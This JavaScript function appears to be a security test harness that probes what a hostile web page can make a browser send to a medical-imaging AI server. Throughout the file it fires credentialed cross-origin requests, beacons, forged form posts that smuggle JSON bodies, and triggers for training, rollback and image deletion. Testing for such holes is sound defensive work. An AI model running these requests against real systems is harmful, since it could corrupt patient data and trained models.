// What a page can make a browser send to `aim`; returns what the page could read of the replies.
async ([aim, volume, ct, correction]) => {
  const text = JSON.stringify(correction);
  const json = { "Content-Type": "application/json" };
  const got = {};
  const call = (name, path, how) => {
    got[name] = fetch(aim + path, how).then((reply) => reply.text());
  };

  const reads = ["/radfound/corrections", "/datastore/?output=all", "/info/", "/openapi.json", "/logs/", "/"];
  for (const path of reads) {
    call(`GET ${path}`, path, { credentials: "include" });
    call(`no-cors GET ${path}`, path, { mode: "no-cors" });
  }

  const posts = [
    ["/radfound/corrections", text],
    ["/radfound/ask", JSON.stringify({ image: ct, task: "caption" })],
    ["/train/radfound", "{}"],
    ["/train/radfound", undefined],
    ["/radfound/adapters/base/activate", undefined],
    ["/radfound/adapters/rollback", undefined],
    ["/activelearning/first", "{}"],
    ["/scoring/radfound", "{}"],
    ["/radfound/login", "token=guessed"],
  ];
  posts.forEach(([path, body], number) => {
    const how = { method: "POST", body };
    call(`${number} ${path} as JSON`, path, { ...how, headers: json });
    call(`${number} ${path} as text`, path, { ...how, mode: "no-cors" });
    navigator.sendBeacon(aim + path, body);
  });

  const label = new FormData();
  label.append("label", new Blob([text], { type: "application/json" }), "a.json");
  call("label", `/datastore/label?image=${volume}`, { method: "PUT", body: label });
  call("removal", `/datastore/image?id=${ct}`, { method: "DELETE" });

  const soon = (begin) =>
    new Promise((resolve) => {
      begin(resolve);
      setTimeout(() => resolve(""), 2000);
    });
  const frame = (name, address = "about:blank") =>
    soon((resolve) => {
      const made = document.createElement("iframe");
      Object.assign(made, { name, src: address });
      made.onload = () => {
        try {
          if (made.contentWindow.location.href !== "about:blank") resolve(made.contentDocument.body.innerText);
        } catch (error) {
          resolve("");
        }
      };
      document.body.append(made);
    });
  const submit = (path, enctype, name, value) => {
    const form = document.createElement("form");
    const field = document.createElement("input");
    const target = `${enctype} ${path}`;
    Object.assign(form, { method: "post", action: aim + path, enctype, target });
    Object.assign(field, { name, value });
    form.append(field);
    got[`form ${target}`] = frame(target);
    document.body.append(form);
    form.submit();
  };
  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    submit("/radfound/corrections", kind, text.slice(0, -1) + ', "', '": 1}');
    submit("/train/radfound", kind, '{"a', '": 1}');
    submit("/radfound/adapters/base/activate", kind, "a", "b");
    submit(`/infer/radfound_caption?image=${ct}`, kind, "params", "{}");
  }

  got.frame = frame("shown", `${aim}/datastore/?output=all`);
  const element = (tag, parts) => document.body.append(Object.assign(document.createElement(tag), parts));
  element("img", { src: `${aim}/datastore/image?image=${ct}` });
  element("script", { src: `${aim}/info/` });
  element("link", { rel: "stylesheet", href: `${aim}/` });

  const heard = (source) =>
    soon((resolve) => {
      source.onmessage = (message) => resolve(String(message.data));
      source.onerror = () => resolve("");
    });
  const events = new EventSource(`${aim}/radfound/metrics`);
  got.EventSource = heard(events);
  got.WebSocket = heard(new WebSocket(`${aim.replace("http", "ws")}/info/`));

  const read = {};
  for (const [name, promise] of Object.entries(got)) read[name] = await promise.catch(() => "");
  events.close();
  return read;
};
